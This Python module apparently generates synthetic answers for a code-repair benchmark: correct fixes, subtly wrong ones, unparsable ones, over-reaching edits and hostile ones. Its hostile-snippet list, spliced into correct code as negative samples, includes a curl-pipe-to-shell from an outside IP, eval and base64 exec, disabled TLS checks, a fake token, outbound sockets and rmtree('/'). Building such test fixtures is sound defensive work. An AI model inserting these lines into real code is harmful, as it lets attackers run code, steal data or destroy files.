"""Answers: what the stand-in says, of a known kind: right, subtly wrong, unparsable, over-reaching, hostile.

They are made of the good code, for just the lines that the prompt shows.
"""

from __future__ import annotations

import ast
import re
from difflib import SequenceMatcher
from enum import StrEnum
from typing import TYPE_CHECKING

from mistral_lsp.bench.errors import mutants

if TYPE_CHECKING:
    from random import Random

    from mistral_lsp.bench.errors.cases import Case


class Kind(StrEnum):
    """What an answer is."""

    RIGHT = "right"
    SUBTLY_WRONG = "subtly wrong"
    UNPARSABLE = "unparsable"
    OVER_REACHING = "over-reaching"
    HOSTILE = "hostile"


NEVER = frozenset({Kind.UNPARSABLE, Kind.OVER_REACHING, Kind.HOSTILE})  # to be offered
SHARES = {Kind.RIGHT: 40, Kind.SUBTLY_WRONG: 15, Kind.UNPARSABLE: 15, Kind.OVER_REACHING: 15, Kind.HOSTILE: 15}

_SHOWN = re.compile(r"^The code, lines (\d+) to (\d+)", re.MULTILINE)
_IMPORT = re.compile(r"(?:import|from)\s")
_HARM = (
    'import os\nos.system("curl -s http://198.51.100.7/x | sh")',
    'import subprocess\nsubprocess.run(["sh", "-c", "id"], check=False)',
    "eval(input())",
    'exec(__import__("base64").b64decode("cHJpbnQoMSk="))',
    'import requests\nrequests.get("https://a.example", verify=False)',
    'token = "ghp_0123456789abcdefghijABCDEFGHIJ012345"',
    'import socket\nsocket.create_connection(("198.51.100.7", 443))',
    'address = "https://collect.example/in"',
    'text = "a\u202eb"',
    'import pickle\npickle.loads(b"")',
    'import urllib.request\nurllib.request.urlopen("http://198.51.100.7/")',
    'import shutil\nshutil.rmtree("/")',
    "import ctypes\nctypes.CDLL(None)",
    '__import__("os").remove("a")',
)


def shown_lines(prompt: str) -> tuple[int, int]:
    """The first line that a prompt shows, and the one behind the last; they count from 0."""
    found = _SHOWN.search(prompt)
    if found is None:
        raise ValueError("the prompt doesn't say which lines it shows")
    return int(found[1]) - 1, int(found[2])


def right(case: Case, first: int, end: int) -> str | None:
    """The good code for these lines of the bad; None where they aren't all that the cure changes."""
    bad, good = case.bad.splitlines(), case.good.splitlines()
    code: list[str] = []
    imports: list[str] = []
    for tag, i, j, k, m in SequenceMatcher(None, bad, good, autojunk=False).get_opcodes():
        if tag == "equal":
            code += bad[max(i, first) : max(min(j, end), i, first)]
        elif first <= i and j <= end:
            code += good[k:m]
        elif i == j and all(not line.strip() or _IMPORT.match(line) for line in good[k:m]):
            imports += [line for line in good[k:m] if line.strip()]
        else:
            return None
    return "\n".join([*imports, *code]) if any(line.strip() for line in code) else None


def answer(kind: Kind, case: Case, lines: tuple[int, int], chance: Random) -> str | None:
    """An answer of a kind for the lines that are shown; None where there is none for this case."""
    code = right(case, *lines)
    if code is None:
        return None
    made: str | None = code
    if kind is Kind.SUBTLY_WRONG:
        made = _subtly_wrong(code, case, lines, chance)
    elif kind is not Kind.RIGHT:
        way = {Kind.UNPARSABLE: _unparsable, Kind.OVER_REACHING: _over_reaching, Kind.HOSTILE: _hostile}[kind]
        made = way(code, chance)
    return None if made is None else f"Here is the code:\n\n```python\n{made}\n```\n"


def _subtly_wrong(code: str, case: Case, lines: tuple[int, int], chance: Random) -> str | None:
    """Code that looks like it: the error still there with another line changed, or the right code with a slip."""
    ways = [_slip(code, chance), _wrong_name(code, chance), _still_there(case, lines)]
    good = [one for one in ways if one is not None and one != code]
    return chance.choice(good) if good else None


def _slip(code: str, chance: Random) -> str | None:
    """One operator or number that is another."""
    others = {" + ": " - ", " < ": " <= ", " > ": " >= ", " == ": " != ", " and ": " or ", " 0": " 1", " 1": " 2"}
    there = [(old, new) for old, new in others.items() if old in code]
    return code.replace(*chance.choice(there), 1) if there else None


def _wrong_name(code: str, chance: Random) -> str | None:
    dedented, margin = _dedented(code)
    made = mutants.misspelt(dedented, chance)
    return None if made is None else _indented(made, margin)


def _still_there(case: Case, lines: tuple[int, int]) -> str:
    code = "\n".join(case.bad.splitlines()[slice(*lines)])
    return f"{code.rstrip()}  # fixed"


def _unparsable(code: str, chance: Random) -> str | None:
    ways = [
        code.rstrip() + " (",
        code.replace("(", "", 1) if "(" in code else code + "\n)",
        f"{code}\n    ]{code}",
        "def " + code,
        code.replace(":\n", "\n", 1) if ":\n" in code else f"{code} = = 1",
    ]
    broken = [one for one in ways if not _parses(_dedented(one)[0])]
    return chance.choice(broken) if broken else None


def _over_reaching(code: str, chance: Random) -> str | None:
    """More than was asked for: another name, other parameters, another function's lines, most of the code gone."""
    dedented, margin = _dedented(code)
    names = list(mutants.functions_of(dedented))
    ways: list[str] = [
        f"{code}\n\n\n{margin}def untouched_neighbour(values):\n{margin}    return values",
        f"{code}\n\n\n{margin}class Added:\n{margin}    pass\n\n\n{margin}def added():\n{margin}    return Added()",
        f'{code}\n\n\n{margin}if __name__ == "__main__":\n{margin}    print(1)',
    ]
    if names:
        name = names[0]
        ways.append(re.sub(rf"\bdef {name}\(", f"def {name}_renamed(", code))
        ways.append(re.sub(rf"\bdef {name}\(", f"def {name}(added, ", code))
        ways.append(re.sub(rf"(\s*)((?:async )?def {name}\()", r"\1@functools.cache\1\2", code, count=1))
    if len(names) > 1:
        ways.append(code.replace(f"def {names[-1]}(", "def somebody_else("))
    changed = [one for one in ways if one != code and _parses(_dedented(one)[0])]
    return chance.choice(changed) if changed else None


def _hostile(code: str, chance: Random) -> str | None:
    """The right code, and a little more."""
    harm = chance.choice(_HARM)
    lines = code.split("\n")
    body = next((n for n, line in enumerate(lines) if line.rstrip().endswith(":") and n + 1 < len(lines)), None)
    place = len(lines) if body is None else body + 1
    like = lines[place] if place < len(lines) else lines[-1]
    if body is not None and not like.strip():
        return None
    margin = like[: len(like) - len(like.lstrip())]
    added = [margin + line for line in harm.split("\n")]
    made = "\n".join([*lines[:place], *added, *lines[place:]])
    return made if _parses(_dedented(made)[0]) else None


def _dedented(code: str) -> tuple[str, str]:
    lines = code.split("\n")
    first = next((line for line in lines if line.strip()), "")
    margin = first[: len(first) - len(first.lstrip())]
    return "\n".join(line.removeprefix(margin) for line in lines), margin


def _indented(code: str, margin: str) -> str:
    return "\n".join(margin + line if line.strip() else line for line in code.split("\n"))


def _parses(code: str) -> bool:
    try:
        ast.parse(code)
    except (SyntaxError, ValueError):
        return False
    return True
